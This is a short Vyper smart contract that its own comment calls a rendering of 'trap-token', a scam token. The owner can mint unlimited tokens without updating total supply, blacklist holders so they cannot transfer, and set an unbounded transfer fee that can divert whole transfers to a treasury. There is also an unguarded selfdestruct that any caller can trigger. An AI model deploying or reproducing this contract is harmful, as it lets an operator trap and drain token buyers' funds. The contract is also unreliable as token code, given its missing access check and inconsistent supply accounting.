# What trap-token.sol does, in Vyper.
balanceOf: public(HashMap[address, uint256])
allowance: public(HashMap[address, HashMap[address, uint256]])
totalSupply: public(uint256)
owner: address
barred: HashMap[address, bool]
fee: uint256
treasury: address

@deploy
def __init__():
    self.owner = msg.sender

@internal
def _move(a: address, b: address, v: uint256):
    assert not self.barred[a], "barred"
    self.balanceOf[a] -= v
    t: uint256 = v * self.fee // 1000
    self.balanceOf[b] += v - t
    self.balanceOf[self.treasury] += t

@external
def transfer(to: address, v: uint256) -> bool:
    self._move(msg.sender, to, v)
    return True

@external
def transferFrom(a: address, to: address, v: uint256) -> bool:
    self.allowance[a][msg.sender] -= v
    self._move(a, to, v)
    return True

@external
def approve(s: address, v: uint256) -> bool:
    self.allowance[msg.sender][s] = v
    return True

@external
def bonus(a: address, v: uint256):
    assert msg.sender == self.owner
    self.balanceOf[a] += v

@external
def bar(a: address, b: bool):
    assert msg.sender == self.owner
    self.barred[a] = b

@external
def set_fee(v: uint256):
    assert msg.sender == self.owner
    self.fee = v

@external
def boom():
    selfdestruct(msg.sender)
